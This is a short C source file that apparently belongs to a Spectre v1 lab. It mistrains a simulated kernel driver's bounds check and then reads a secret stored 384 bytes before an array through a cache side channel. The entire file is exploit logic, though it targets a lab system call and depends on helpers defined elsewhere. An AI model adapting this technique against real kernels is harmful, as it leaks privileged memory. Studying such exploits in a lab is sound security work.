/*
 * Spectre v1 against the kernel: a system call checks an index, and its branch is predicted to pass.
 *
 * The driver behind system call 1000 returns byte `index` of an array, and looks something up by it in a table that
 * the caller names, or in its own. The secret lies 384 bytes before the array; as an unsigned number that index is far too large.
 */
#include "kernel.h"

static const char ABOUT[] = "ring 0 only";

static int prepare(u64 bytes)
{
    (void)bytes;
    if (lab_call(LAB_READ, 0, 0, 0, 0) < 0) {
        note("system call 1000 is not there: run with --show-secret");
        return 0;
    }
    return 1;
}

static void attempt(u64 index)
{
    u64 outside = (u64)SECRET_AT - ARRAY_AT + index;
    kernel_uses_secret();
    flush_probe();
    for (int more = trainings(); more >= 0; more--) {
        lab_call(LAB_FLUSH, LINE_OF_SIZE, 0, 0, 0); /* as a driver does before its device reads memory */
        lab_call(LAB_READ, pick(more == 0, outside, more), PICK(more == 0, probe, (u8 *)0), 12, 0);
    }
}

static void done(void)
{
}
